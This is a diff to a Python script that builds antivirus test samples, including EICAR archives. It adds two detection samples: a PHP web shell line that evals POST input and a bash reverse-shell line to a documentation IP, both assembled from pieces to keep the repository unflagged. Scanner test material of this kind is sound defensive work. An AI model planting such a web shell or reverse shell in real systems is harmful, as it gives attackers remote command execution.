@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """Makes harmless samples for `make run`:  samples/make_samples.py FOLDER
 
-All of them hold EICAR's test file, whose 68 bytes every antivirus agrees to report, or something like it that must not
-be reported. It is put together here from pieces, so that no file of this repository is itself detected. Alone, this
+All of them hold EICAR's test file, whose 68 bytes every antivirus agrees to report, an inert line that a built-in rule
+finds, or something like it that must not be reported. It is put together here from pieces, so that no file of this repository is itself detected. Alone, this
 needs Python only; with bsdtar (libarchive-tools) it makes a few more archives.
 """
 import base64
@@ -109,6 +109,8 @@ def samples():
         "found-eicar.tar.gz": gzip.compress(tar_of(("a.txt", b"a"), ("eicar.com", EICAR)), mtime=0),
         "found-eicar.tar.bz2": bz2.compress(tar_of(("eicar.com", EICAR))),
         "found-eicar.tar.xz": lzma.compress(tar_of(("eicar.com", EICAR))),
+        "found-web-shell.php": ("<?php @ev" + "al($_PO" + "ST['inert']); // cut\n").encode(),
+        "found-reverse-shell.zip": zip_of(("run.sh", ("bash -i >& /de" + "v/tcp/192.0.2.1/0 0>&1 # cut\n").encode())),
         "found-seven-deep.zip": deep_zip(7),
         "found-before-the-cut.zip": half[:-120],
         "found-zip-behind-picture.gif": b"GIF89a" + bytes(7) + b"\x3b" + zip_of(("eicar.com", EICAR)),
